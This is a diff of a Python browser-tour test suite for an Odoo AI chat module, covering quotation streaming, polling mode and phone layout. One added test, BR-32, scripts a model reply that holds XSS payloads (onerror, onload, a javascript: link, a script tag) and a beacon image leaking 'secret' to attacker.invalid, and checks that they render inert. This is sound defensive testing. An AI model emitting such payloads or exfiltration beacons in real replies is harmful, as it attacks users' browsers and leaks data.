@@ -1,11 +1,12 @@
 """The chat in a real browser (issue 11 points 1, 2 and 5): Odoo's tours
 in headless Chromium drive static/src/js/chat_widget.js against the real
 routes and the scripted LLM server (static/tests/tours/chat_tour.js)."""
-import re
-
 from odoo.tests import HttpCase, new_test_user, tagged
+from odoo.tools import config
 
-from .common import AgenticSetupMixin, tool_call
+from .common import AgenticSetupMixin, observation_records, tool_call
+
+CRON = "agentic_ai.ir_cron_process_pending_tasks"
 
 QUOTE = "Create a quotation for Azure Interior: 3 Office Chair Black and 1 Large Cabinet"
 
@@ -27,10 +28,12 @@ class TestChatTour(AgenticSetupMixin, HttpCase):
     def test_salesperson_streams_a_quotation_with_its_tool_steps(self):
         words = " ".join(f"w{i}" for i in range(25))
 
+        logo = f"http://localhost:{config['http_port']}/web/static/img/logo.png"  # another origin than 127.0.0.1
+
         def answer(request):
-            result = request["messages"][-1]["content"]
-            name = re.search(r"S\d{5}", result)
-            return {"content": f"Your quotation is ready: {name and name.group(0)}. {words}", "chunk_delay": 0.12}
+            order = next(row for row in observation_records(request) if str(row.get("name", "")).startswith("S"))
+            link = f"[{order['name']}](/odoo/sale.order/{order['id']})"
+            return {"content": f"Your quotation is ready: {link}. {words}\n\n![logo]({logo})", "chunk_delay": 0.12}
 
         self.script(tool_call("create_quotation", {"partner": "Azure Interior", "lines": [
             {"product": "Office Chair Black", "quantity": 3}, {"product": "Large Cabinet", "quantity": 1}]},
@@ -88,3 +91,59 @@ class TestChatTour(AgenticSetupMixin, HttpCase):
         self.assertEqual((thread.name, thread.active), ("new name", False))
         answer = self.make_jsonrpc_request("/agentic_ai/thread/messages", {"thread_id": thread.id})
         self.assertEqual(answer["thread"]["name"], "new name", "an archived conversation can still be opened")
+
+    def test_BR_32_model_output_renders_inert(self):
+        """Case BR-32: the model's answer carries script payloads and a
+        beacon image next to normal Markdown; the tour checks that no
+        payload ran, no request left for attacker.invalid, the raw HTML is
+        text and the table and code block render."""
+        self.script({"content": (
+            "Here is the report.\n\n"
+            '<img src=x onerror="window.__pwned=1">\n\n'
+            '<svg onload="window.__pwned=2">\n\n'
+            "[open](javascript:window.__pwned=3)\n\n"
+            "![s](http://attacker.invalid/p.png?d=secret)\n\n"
+            "<script>window.__pwned=4</script>\n\n"
+            "| Product | Quantity |\n|---|---|\n| Office Chair Black | 3 |\n\n"
+            "```python\nprint('quotation ready')\n```\n")})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_br32", login="chat_sales",
+                        timeout=120)
+        reply = self.thread().message_ids.filtered(lambda m: m.role == "assistant")
+        self.assertEqual(len(reply), 1)
+        self.assertIn("attacker.invalid", str(reply.content_html), "the image is a placeholder naming its host")
+
+    def test_polling_when_streaming_is_off(self):
+        """With Settings' "Follow runs by polling" on (a proxy that buffers),
+        the chat queues the message (chat/send_async), shows it queued,
+        and polls; once the processor ran, the reply is shown once."""
+        self.env["ir.config_parameter"].sudo().set_param("agentic_ai.chat_polling", "True")
+        self.script({"content": "processed in the background"})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_polling_send", login="chat_sales",
+                        timeout=120)
+        thread = self.thread()
+        self.assertEqual((thread.state, thread.pending_message), ("queued", "summarise my week in the background"))
+        self.assertFalse(self.scenario.chat_requests(), "nothing streamed: the message waits in the queue")
+        self.env.ref(CRON).method_direct_trigger()  # HttpCase: the registry is in test mode already
+        self.assertEqual(thread.state, "completed")
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_polling_receive", login="chat_sales",
+                        timeout=120)
+        self.assertEqual(thread.message_ids.filtered(lambda m: m.role in ("user", "assistant")).mapped("content"),
+                         ["summarise my week in the background", "processed in the background"])
+
+
+@tagged("post_install", "-at_install")
+class TestChatTourPhone(AgenticSetupMixin, HttpCase):
+    """The chat at a phone's width (issue 11 point 1)."""
+
+    browser_size = "390x844"
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.setup_agentic()
+        new_test_user(cls.env, "chat_phone", groups="base.group_user,agentic_ai.group_agentic_ai_user")
+
+    def test_phone_width_sidebar_folds_and_a_message_gets_its_reply(self):
+        self.script({"content": "Hello from the desk: your week has 3 quotations."})
+        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_phone", login="chat_phone",
+                        timeout=120)
